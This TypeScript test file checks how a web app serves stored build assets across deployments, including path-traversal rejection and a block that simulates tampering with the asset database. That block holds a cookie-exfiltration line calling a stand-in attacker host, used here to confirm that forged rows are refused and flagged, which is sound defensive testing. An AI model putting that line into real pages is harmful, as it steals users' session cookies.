import { DAY_MS } from '../clock.ts';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { brotliCompressSync } from 'node:zlib';
import { afterAll, describe, expect, test } from 'vitest';
import { createApp } from '../../compose/app.ts';
import { evaluateAlarms } from '../../features/alarms/evaluate-alarms.ts';
import { atEndOfFile } from '../../testing/end-of-file.ts';
import { createFreshWorld, type World } from '../../testing/world.ts';

const folders: string[] = [];
afterAll(() => folders.forEach((folder) => rmSync(folder, { recursive: true })));

/** The folder of a build: its page loads its own chunk, later. */
function build(version: string): string {
  const folder = mkdtempSync(join(tmpdir(), 'portside-build-'));
  folders.push(folder);
  mkdirSync(join(folder, 'assets/admin'), { recursive: true });
  writeFileSync(join(folder, 'index.html'), `<script src="/assets/main-${version}.js">`);
  writeFileSync(join(folder, 'manifest.webmanifest'), '{}');
  const chunk = `export const build = '${version}';`;
  writeFileSync(join(folder, `assets/main-${version}.js`), chunk);
  writeFileSync(join(folder, `assets/main-${version}.js.br`), brotliCompressSync(chunk));
  writeFileSync(join(folder, `assets/sheet-${version}.css`), `.${version} {}`);
  writeFileSync(join(folder, 'assets/shared-1.js'), '1');
  return folder;
}

/** A process of that build, on a database that all of them share. */
async function start({ ctx }: World, folder: string) {
  const options = {
    publicUrl: ctx.publicUrl,
    trustedProxies: [],
    perMinute: null,
    pagesFolder: folder,
  };
  const app = await createApp(options, {
    db: ctx.db,
    clock: ctx.clock,
    log: ctx.log,
    keyring: ctx.keyring,
    mailer: { send: () => Promise.resolve() },
    telegram: null,
    chains: {},
    sandbox: null,
  });
  atEndOfFile(() => app.stop());
  return (url: string, headers = {}) => app.http.inject({ method: 'GET', url, headers });
}

test('while processes are replaced, each serves the files of both builds', async () => {
  const world = await createFreshWorld();
  const old = await start(world, build('a'));
  expect((await old('/assets/main-b.js')).statusCode).toBe(404);
  const next = await start(world, build('b'));
  const plain = await next('/assets/main-a.js');
  expect([plain.statusCode, plain.body]).toEqual([200, `export const build = 'a';`]);
  expect(plain.headers).toMatchObject({
    'content-type': 'text/javascript; charset=utf-8',
    'cache-control': 'public, max-age=31536000, immutable',
    'x-content-type-options': 'nosniff',
  });
  const packed = await next('/assets/main-a.js', { 'accept-encoding': 'gzip, br' });
  expect(packed.headers['content-encoding']).toBe('br');
  expect((await next('/assets/sheet-a.css')).headers['content-type']).toContain('text/css');
  // The process before learns of it within a second.
  await expect
    .poll(async () => (await old('/assets/main-b.js')).body, { interval: 50 })
    .toBe(`export const build = 'b';`);
  for (const path of ['main-c.js', 'main-a.js.br', '..%2fmain-a.js', '%2e%2e/index.html'])
    expect((await next(`/assets/${path}`)).statusCode).toBe(404);
});

test('an open page of the back office goes on: its files are in a folder of their own', async () => {
  const world = await createFreshWorld();
  const folder = build('a');
  writeFileSync(join(folder, 'assets/admin/goods-a.js'), 'export const page = 1;');
  await start(world, folder);
  const next = await start(world, build('b'));
  const answer = await next('/assets/admin/goods-a.js');
  expect([answer.statusCode, answer.body]).toEqual([200, 'export const page = 1;']);
  for (const path of ['admin/goods-b.js', 'other/goods-a.js', 'goods-a.js', 'admin%2fgoods-a.js'])
    expect((await next(`/assets/${path}`)).statusCode).toBe(404);
});

test('a replaced build is kept for a week, a build that comes back for as long as it runs', async () => {
  const world = await createFreshWorld();
  const [a, b] = [build('a'), build('b')];
  const names = async () =>
    (await world.ctx.db.selectFrom('web_assets').select('name').orderBy('name').execute()).map(
      ({ name }) => name,
    );
  const both = ['main-a.js', 'main-b.js', 'shared-1.js', 'sheet-a.css', 'sheet-b.css'];
  await start(world, a);
  await start(world, b);
  world.clock.advance(6 * DAY_MS);
  await start(world, b);
  expect(await names()).toEqual(both);
  await start(world, a);
  world.clock.advance(6 * DAY_MS);
  await start(world, a);
  expect(await names()).toEqual(both);
  world.clock.advance(DAY_MS + 1);
  await start(world, a);
  expect(await names()).toEqual(['main-a.js', 'shared-1.js', 'sheet-a.css']);
});

test('processes that start at once store each file once', async () => {
  const world = await createFreshWorld();
  const folder = build('a');
  await Promise.all(Array.from({ length: 4 }, () => start(world, folder)));
  const rows = await world.ctx.db.selectFrom('web_assets').select('name').execute();
  expect(rows).toHaveLength(3);
});

describe('whoever can write to the database, without the keys,', () => {
  const CODE = "fetch('https://evil.example/' + document.cookie)";
  const rowOf = async ({ ctx }: World, name: string) =>
    ctx.db.selectFrom('web_assets').selectAll().where('name', '=', name).executeTakeFirst();
  const dropped = async ({ ctx }: World) =>
    (await evaluateAlarms(ctx))
      .filter(({ kind }) => kind === 'recordsForged')
      .map(({ findings }) => findings[0]!.facts);

  test('changes the code of a replaced build, and no page gets it', async () => {
    const world = await createFreshWorld();
    await start(world, build('a'));
    const next = await start(world, build('b'));
    await world.ctx.db
      .updateTable('web_assets')
      .set({ bytes: Buffer.from(CODE), is_packed: false })
      .where('name', '=', 'main-a.js')
      .execute();
    const got = await next('/assets/main-a.js');
    expect([got.statusCode, got.body.includes('evil')]).toEqual([404, false]);
    expect(await rowOf(world, 'main-a.js')).toBeUndefined();
    expect((await next('/assets/sheet-a.css')).statusCode).toBe(200);
    expect(await dropped(world)).toEqual([{ name: 'main-a.js' }]);
  });

  test('adds a page of their own, and nobody gets it', async () => {
    const world = await createFreshWorld();
    await start(world, build('a'));
    const row = { bytes: Buffer.from(CODE), is_packed: false, replaced_at: null };
    const { mac } = (await rowOf(world, 'main-a.js'))!;
    await world.ctx.db
      .insertInto('web_assets')
      .values([
        { ...row, name: 'x.html', type: 'text/html' },
        { ...row, name: 'x.js', type: 'text/javascript', mac },
      ])
      .execute();
    const next = await start(world, build('b'));
    for (const name of ['x.html', 'x.js']) expect((await next(`/assets/${name}`)).statusCode).toBe(404);
    expect(await dropped(world)).toEqual([{ name: 'x.html' }, { name: 'x.js' }]);
  });

  test('gives code another name or another type, which changes nothing of how it is read', async () => {
    const world = await createFreshWorld();
    await start(world, build('a'));
    const change = (name: string, columns: object) =>
      world.ctx.db.updateTable('web_assets').set(columns).where('name', '=', name).execute();
    await change('main-a.js', { type: 'text/html' });
    await change('sheet-a.css', { name: 'sheet-z.js', type: 'text/javascript' });
    const next = await start(world, build('b'));
    expect((await next('/assets/main-a.js')).headers['content-type']).toBe('text/javascript; charset=utf-8');
    expect((await next('/assets/sheet-z.js')).statusCode).toBe(404);
  });
});
